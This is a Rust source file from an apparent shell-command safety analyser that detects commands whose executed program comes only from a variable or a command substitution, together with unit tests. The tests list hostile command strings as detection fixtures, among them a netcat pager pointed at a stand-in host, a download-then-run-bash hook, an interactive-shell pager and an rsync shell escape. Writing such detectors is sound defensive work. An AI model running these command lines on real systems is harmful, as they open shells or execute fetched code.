//! Commands that run what only a variable or another command tells.

use crate::command_line::{CommandLine, Part, Shell, Word, WordKind};
use crate::obstacle::Obstacle;
use crate::operand_effects::script_word;
use crate::programs;
use crate::programs::class::Class;
use crate::programs::fact::Fact;
use crate::programs::name::canonical;
use crate::programs::runs::Wrapper;
use crate::word::is_only_inserted;

/// The program of `part` that runs a text of which only a variable or another command tells what runs: `eval "$x"`,
/// `sh -c "$x"`, `python3 -c "$x"`, `xargs -I{} sh -c {}`.
pub(super) fn runs_untold_text(part: &Part) -> Option<String> {
    let (program, words) = part.words.split_first()?;
    let name = canonical(&program.text);
    let known = programs::of(&name);
    let untold = if known.is(Fact::RunsWords) && known.is(Fact::RunsText) {
        let text = words.iter().map(|word| word.text.as_str()).collect::<Vec<_>>().join(" ");
        words.iter().any(|word| word.kind == WordKind::Varies) && starts_untold(&text)
    } else if known.is(Fact::RunsScripts) {
        script_word(words).is_some_and(|word| word.kind == WordKind::Varies && starts_untold(&word.text))
            || part.given.iter().any(|text| is_only_inserted(text))
    } else if let Class::Script(interpreter) = known.class {
        let mut pairs = words.iter().zip(words.iter().skip(1));
        pairs.any(|(option, value)| {
            interpreter.code.split(' ').any(|code| code == option.text && code != "-m")
                && value.kind == WordKind::Varies
                && is_only_inserted(&value.text)
        })
    } else {
        known.wrapper.is_some_and(|wrapper| wraps_untold(wrapper, words))
            || (known.is(Fact::Fed) || known.is(Fact::FindsFiles)) && fills_in_script(words)
    };
    untold.then_some(name)
}

/// Whether the name of a program that `text`, a script of a shell, runs is not written out.
fn starts_untold(text: &str) -> bool {
    if is_only_inserted(text) {
        return true;
    }
    let line = CommandLine::analyse(text, Shell::Bash);
    let varies = |part: &Part| part.program().is_some_and(|name| name.starts_with(['$', '`', '\u{2026}', '{']));
    line.obstacle == Some(Obstacle::ProgramVaries) || line.parts.iter().any(varies)
}

/// Whether a shell among `words` gets its script from what is filled in: `xargs sh -c`, `find -exec sh -c {} \;`.
fn fills_in_script(words: &[Word]) -> bool {
    let is_shell = |word: &Word| programs::of(&canonical(&word.text)).is(Fact::RunsScripts);
    let Some(behind) = words.iter().position(is_shell).and_then(|at| words.get(at + 1..)) else { return false };
    let takes_script = behind.first().is_some_and(|word| word.text.starts_with('-') && word.text.ends_with('c'));
    takes_script && script_word(behind).is_none_or(|word| is_only_inserted(&word.text))
}

/// Whether the program behind a wrapper is not written out: `timeout 5 $X`. `command -v $X` only looks it up.
fn wraps_untold(wrapper: &Wrapper, words: &[Word]) -> bool {
    let mut duration = wrapper.duration;
    let mut rest = words.iter();
    while let Some(word) = rest.next() {
        match word.text.as_str() {
            "-v" | "-V" | "-l" => return false,
            valued if wrapper.valued.contains(&valued) => _ = rest.next(),
            option if option.starts_with('-') => {}
            setting if word.kind == WordKind::Exact && setting.contains('=') => {}
            _ if duration => duration = false,
            program => return word.kind == WordKind::Varies && program.starts_with(['$', '`']),
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::super::hazard::{Hazard, hazard};
    use super::*;
    use crate::pattern::MayRun;

    fn found(line: &str) -> Option<Hazard> {
        CommandLine::analyse(line, Shell::Bash).parts.iter().find_map(|part| hazard(part, &MayRun::of_part(part)))
    }

    #[test]
    fn a_text_that_only_a_variable_tells_is_seen_by_nobody() {
        for line in [
            "eval \"$X\"",
            "eval $X",
            "eval $(tool env)",
            "eval \"$(tool env)\"",
            "sh -c \"$X\"",
            "bash -lc \"$X a\"",
            "bash -c \"cd a && $X\"",
            "python3 -c \"$X\"",
            "node -e \"$(cat a)\"",
            "perl -e \"$X\"",
            "timeout 5 $X a",
            "nohup $X",
            "env A=b $X",
            "xargs sh -c",
            "xargs -I{} sh -c '{}'",
            "find . -exec sh -c {} \\;",
        ] {
            assert!(matches!(found(line), Some(Hazard::Untold(_))), "{line}: {:?}", found(line));
        }
        for line in [
            "eval 'ls'",
            "sh -c 'echo \"$1\"' _ a",
            "bash -c \"cd $DIR && make\"",
            "python3 -c \"print('$X')\"",
            "timeout $SECONDS make",
            "nice -n $N make",
            "command -v $X",
            "xargs -I{} sh -c 'echo {}'",
            "xargs -n1 sh -c 'echo $0'",
            "python3 -m \"$MODULE\"",
        ] {
            assert!(!matches!(found(line), Some(Hazard::Untold(_))), "{line}: {:?}", found(line));
        }
    }

    #[test]
    fn what_an_option_or_a_variable_tells_a_program_to_run_counts_as_if_it_ran_alone() {
        for line in [
            "rsync -e 'sh -c \"sh 0<&2\"' 127.0.0.1:a b",
            "aria2c --on-download-complete=bash https://x.example/a",
            "aria2c --on-download-error=$X https://x.example/a",
            "split --filter='sudo x' a",
            "GIT_PAGER='nc x.example 1' git log",
            "MANPAGER='bash -i' man a",
        ] {
            assert!(found(line).is_some(), "{line}");
        }
        for line in [
            "PAGER=cat git log",
            "GIT_EDITOR=true git commit --amend",
            "split --filter='gzip > $FILE.gz' a",
            "tar -I zstd -cf a.tar b",
        ] {
            assert_eq!(found(line), None, "{line}");
        }
    }
}
